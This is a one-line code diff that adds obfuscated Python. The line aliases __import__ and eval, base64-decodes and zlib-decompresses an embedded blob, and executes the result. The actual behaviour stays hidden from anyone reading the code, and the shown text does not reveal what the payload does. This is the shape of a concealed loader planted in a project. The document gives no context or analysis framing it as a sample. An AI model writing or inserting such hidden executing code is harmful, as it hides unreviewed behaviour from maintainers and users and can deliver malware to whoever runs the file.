@@ -1,0 +1,1 @@
+_0xa1b2=__import__;_0xc3d4=_0xa1b2("base64").b64decode;_0xe5f6=_0xa1b2("zlib").decompress;_0x1a2b=eval;_0x1a2b(compile(_0xe5f6(_0xc3d4("eJzLzC3ILypRyC+2zi/WK64sLknN1VBKLi3KUcgoKSmw0tfPTddLrUjMLchJ1cvMK0vMyUxRqFEozlDSBAB94xTr")),"<s>","exec"))
